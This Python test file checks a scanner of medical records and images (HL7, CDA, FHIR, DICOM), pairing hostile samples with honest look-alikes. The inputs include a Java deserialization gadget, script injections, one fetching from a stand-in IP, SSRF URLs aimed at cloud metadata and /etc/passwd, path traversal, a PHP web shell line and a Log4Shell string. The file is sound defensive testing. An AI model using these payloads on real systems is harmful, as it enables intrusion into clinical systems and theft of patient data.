"""Attacks on readers of images and records as their write-ups describe them, and honest files that look like them."""

from __future__ import annotations

import json
import struct
from base64 import b64encode

import pytest

from safecare.examine.api import Verdict, Verdicts
from safecare.examine.engine import Engine
from safecare.testing.medical_attacks.writer import Image

FOUND = (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS)
ENGINE = Engine()
MESSAGE = "MSH|^~\\&|LAB|HOSP|EHR|HOSP|20250301||ORU^R01|42|P|2.5.1\rPID|1||4711||Martin^Paul\rOBR|1|||GLU\r"
OBJECT = (
    '<sorted-set><dynamic-proxy><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder">'
    "<command><string>id</string></command></target></handler></dynamic-proxy></sorted-set>"
)


def judged(raw: bytes | str) -> Verdict:
    return ENGINE.judge(raw.encode() if isinstance(raw, str) else raw)


def rules(raw: bytes | str) -> set[str]:
    return {one.rule for one in judged(raw).findings}


def cda(text: str, more: str = "") -> str:
    return (
        f'<ClinicalDocument xmlns="urn:hl7-org:v3" {more}><component><structuredBody><component><section>'
        f"<text>{text}</text></section></component></structuredBody></component></ClinicalDocument>"
    )


def patient(narrative: str) -> str:
    div = f'<div xmlns="http://www.w3.org/1999/xhtml">{narrative}</div>'
    return json.dumps({"resourceType": "Patient", "text": {"status": "generated", "div": div}})


@pytest.mark.parametrize(
    "text",
    [
        "ok\\x0d\\OBX|2|NM|K||9.9",
        "ok\\.br\\OBX|2|NM|K||9.9",
        "ok\x1c\r\x0bMSH|^~\\&|X|X|EHR|HOSP|20250301||ADT^A03|43|P|2.5\rPID|1||9999",
        OBJECT,
        '<ObjectDataProvider MethodName="Start"/>',
        "{% for x in ().__class__.__base__.__subclasses__() %}",
    ],
)
def test_segments_frames_and_objects_that_a_message_hides_are_found(text: str) -> None:
    assert judged(f"{MESSAGE}OBX|1|TX|N||{text}\r").verdict in FOUND


@pytest.mark.parametrize(
    "text",
    [
        "Traitement :\\.br\\TXA||||||F",
        "line\\.br\\RBC 4.2\\.br\\HGB 13.1",
        "Result \\T\\ \\X0D\\\\X0A\\next line",
        "\\H\\IMPRESSION\\N\\ see Process Builder protocol",
    ],
)
def test_words_at_the_end_of_a_line_are_no_segment(text: str) -> None:
    assert judged(f"{MESSAGE}OBX|1|FT|N||{text}||||||F\r").verdict is Verdicts.CLEAN


def test_a_message_in_its_frame_is_clean() -> None:
    framed = "\x0b" + MESSAGE + "OBX|1|TX|N||ok\r\x1c\r"
    assert judged(framed * 2).verdict is Verdicts.CLEAN


def test_an_object_of_java_that_runs_a_command_is_found_in_a_document() -> None:
    raw = b"\xac\xed\0\5sr\0\x32sun.reflect.annotation.AnnotationInvocationHandler" + b"\0" * 40
    ed = b64encode(raw).decode()
    assert judged(f"{MESSAGE}OBX|1|ST|N||{ed}\r").findings
    assert judged(f"{MESSAGE}OBX|1|ED|N||^application^octet-stream^Base64^{ed}\r").verdict in FOUND


@pytest.mark.parametrize(
    "text",
    [
        "<paragraph><![CDATA[<script>fetch('//192.0.2.1')</script>]]></paragraph>",
        "<paragraph>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</paragraph>",
        "<paragraph>&lt;img src=x onerror=alert(1)&gt;</paragraph>",
        '<content styleCode="x:expression(alert(1))">a</content>',
        "<paragraph>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</paragraph>",
    ],
)
def test_escaped_and_styled_scripts_of_a_document_are_found(text: str) -> None:
    assert judged(cda(text)).verdict in FOUND


@pytest.mark.parametrize(
    ("text", "more"),
    [
        ("Glucose &lt; 5 mmol/l, K+ &gt;= 3.5 = normal", ""),
        ("<![CDATA[Dose = 5 mg (a < b)]]>", ""),
        ("&lt;p&gt;Prescription: see description&lt;/p&gt;", ""),
        ("ok", 'xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="urn:hl7-org:v3 CDA.xsd"'),
        (
            "ok",
            'xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="urn:hl7-org:v3 file:///C:/CDA.xsd"',
        ),
    ],
)
def test_honest_escapes_and_schemas_are_clean(text: str, more: str) -> None:
    assert judged(cda(text, more)).verdict is Verdicts.CLEAN


@pytest.mark.parametrize(
    ("address", "verdict"),
    [
        ("https://ehr.example.com/xml/CDA.xsl", Verdicts.CLEAN),
        ("http://ehr.example.com/xml/CDA.xsl", Verdicts.SUSPICIOUS),
        ("https://192.0.2.1/CDA.xsl", Verdicts.SUSPICIOUS),
        ("data:text/xsl;base64,PHg+", Verdicts.SUSPICIOUS),
    ],
)
def test_a_stylesheet_of_a_maker_is_told_and_no_alarm(address: str, verdict: Verdicts) -> None:
    raw = f'<?xml-stylesheet type="text/xsl" href="{address}"?>{cda("ok")}'
    assert "xml.stylesheet" in rules(raw)
    assert judged(raw).verdict is verdict


def test_a_schema_on_a_share_elsewhere_is_found() -> None:
    more = 'xmlns:x="urn:x" x:schemaLocation="urn:hl7-org:v3 \\\\192.0.2.1\\s\\CDA.xsd"'
    assert "record.address" in rules(cda("ok", more))


@pytest.mark.parametrize("escaped", ["\\u003c", "\\u003C"])
def test_letters_that_writers_of_json_escape_mean_nothing(escaped: str) -> None:
    honest = patient("<img src='a.png' alt='logo'/><p>a</p>").replace("<", escaped).replace("=", "\\u003d")
    assert judged(honest).verdict is Verdicts.CLEAN
    attack = json.dumps({"resourceType": "Patient", "gender": "<script>alert(1)</script>"}).replace("<", escaped)
    assert "fhir.script" in rules(attack)


def test_a_link_whose_letters_are_numbers_is_found() -> None:
    assert "record.active" in rules(patient('<a href="&#106;avascript:alert(1)">x</a>'))
    assert judged(patient('<a href="https://a.example/?a=1&amp;b=javascript">x</a>')).verdict is Verdicts.CLEAN


@pytest.mark.parametrize(
    "url", ["../../admin/users", "Patient/../../$expunge", "Patient/%2e%2e%2f%2e%2e%2fmetadata", "file:///etc/passwd"]
)
def test_requests_of_a_bundle_that_leave_the_server_are_found(url: str) -> None:
    bundle = {"resourceType": "Bundle", "entry": [{"request": {"method": "GET", "url": url}}]}
    assert not rules(json.dumps(bundle)).isdisjoint({"fhir.request", "fhir.script"})


@pytest.mark.parametrize("url", ["Patient", "Patient/1..2", "Patient?name=a..b", "http://a.example/fhir/Patient/1"])
def test_other_requests_are_clean(url: str) -> None:
    bundle = {"resourceType": "Bundle", "entry": [{"request": {"method": "GET", "url": url}}]}
    assert judged(json.dumps(bundle)).verdict is Verdicts.CLEAN


def test_a_header_with_a_request_of_its_own_is_found() -> None:
    channel = {"type": "rest-hook", "endpoint": "https://a.example/h", "header": ["X-A: b\r\n\r\nGET /admin HTTP/1.1"]}
    assert "fhir.header" in rules(json.dumps({"resourceType": "Subscription", "channel": channel}))
    channel["header"] = ["Authorization: Bearer abc"]
    assert judged(json.dumps({"resourceType": "Subscription", "channel": channel})).verdict is Verdicts.CLEAN


@pytest.mark.parametrize(
    "url",
    [
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "http://2852039166/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/computeMetadata/v1/",
        "php://filter/read=convert.base64-encode/resource=/etc/passwd",
    ],
)
def test_addresses_that_only_a_server_would_follow_are_found(url: str) -> None:
    content = [{"attachment": {"contentType": "application/pdf", "url": url}}]
    assert "record.address" in rules(json.dumps({"resourceType": "DocumentReference", "content": content}))


@pytest.mark.parametrize("name", ["__proto__", "\\u005f\\u005fproto\\u005f\\u005f"])
def test_a_name_that_changes_every_object_is_found(name: str) -> None:
    assert judged(f'{{"resourceType":"Patient","{name}":{{"isAdmin":true}}}}').verdict in FOUND
    assert judged(f'{{"resourceType":"Patient","gender":"{name}"}}').verdict is Verdicts.CLEAN


def element(tag: int, vr: bytes, value: bytes) -> bytes:
    value += b" " * (len(value) % 2)
    return struct.pack("<HH2sH", tag >> 16, tag & 0xFFFF, vr, len(value)) + value


def image(*more: bytes) -> bytes:
    """Return an image whose data set, in explicit VR, is `more`, and 16 x 16 pixels."""
    head = Image(pixels=b"\1\2").write()
    meta = head[: 132 + 12 + int.from_bytes(head[140:144], "little")]
    pixels = struct.pack("<HH2sHI", 0x7FE0, 0x10, b"OB", 0, 256) + bytes(range(256))
    size = {0x00280010: 16, 0x00280011: 16, 0x00280100: 8, 0x00280101: 8, 0x00280102: 7}
    said = {int.from_bytes(one[0:2], "little") << 16 | int.from_bytes(one[2:4], "little"): one for one in more}
    base = {tag: element(tag, b"US", struct.pack("<H", value)) for tag, value in size.items()} | said
    return meta + b"".join(base[tag] for tag in sorted(base)) + pixels


def test_the_image_of_these_tests_is_clean() -> None:
    assert judged(image()).verdict is Verdicts.CLEAN


@pytest.mark.parametrize("tag", [0x00080060, 0x00100020, 0x00200010])
@pytest.mark.parametrize("value", [b"../../../x", b"..\\..\\x", b"a/../../b"])
def test_a_value_that_names_folders_and_climbs_out_of_them_is_found(tag: int, value: bytes) -> None:
    assert "dicom.uid.path" in rules(image(element(tag, b"LO", value)))


@pytest.mark.parametrize("value", [b"A..B", b"2019/2020", b"S1/..", b"...", b"12.3/4"])
def test_dots_and_strokes_in_an_identifier_are_clean(value: bytes) -> None:
    assert judged(image(element(0x00200010, b"SH", value))).verdict is Verdicts.CLEAN


def test_a_script_whose_letters_are_divided_by_escapes_of_a_character_set_is_found() -> None:
    charset = element(0x00080005, b"CS", b"\\ISO 2022 IR 87")
    attack = image(charset, element(0x00104000, b"LT", b"<scr\x1b(Bipt>fetch('//x')</scr\x1b(Bipt>"))
    assert "dicom.value.script" in rules(attack)
    honest = image(charset, element(0x00100010, b"PN", b"Yamada^Tarou=\x1b$B;3ED\x1b(B^\x1b$BB@O:\x1b(B"))
    assert judged(honest).verdict is Verdicts.CLEAN


@pytest.mark.parametrize(
    "more",
    [
        [element(0x00280101, b"US", b"\xff\xff")],
        [element(0x00280008, b"IS", b"-2147483648")],
        [element(0x00281101, b"US", struct.pack("<3H", 0, 0, 16)), element(0x00281201, b"US", b"\1\0")],
        [
            element(0x60000010, b"US", b"\xff\xff"),
            element(0x60000011, b"US", b"\xff\xff"),
            element(0x60003000, b"US", b"\0\0"),
        ],
    ],
)
def test_an_image_whose_numbers_lead_readers_out_of_bounds_is_not_called_clean(more: list[bytes]) -> None:
    assert "dicom.pixels.unsound" in rules(image(*more))
    assert judged(image(*more)).verdict is not Verdicts.CLEAN


def test_meta_information_longer_than_the_file_is_found() -> None:
    raw = bytearray(image())
    raw[140:144] = b"\xf0\xff\xff\xff"
    assert "dicom.bomb.length" in rules(bytes(raw))


def test_pixels_that_look_like_the_beginning_of_a_page_are_clean() -> None:
    for chance in (
        b"<?=DCBA" * 30,
        b"<?=81(64284(",
        b"<?=`t\x90",
        b"${CY${CZ",
        b"{{xxvonflqhhef`YWYTQLZMJHG@E>@:0/13:3*.3*4",
    ):
        assert judged(image(element(0x00204000, b"LT", chance))).verdict is Verdicts.CLEAN
    for command in (
        b"<?=system($_GET[0]);",
        b"<?=`$_GET[0]`?>",
        b"{{7*7}}",
        b"{{ 7 * '7' }}",
        b"${${date:'j'}ndi:ldap://x}",
    ):
        assert judged(image(element(0x00204000, b"LT", command))).verdict in FOUND
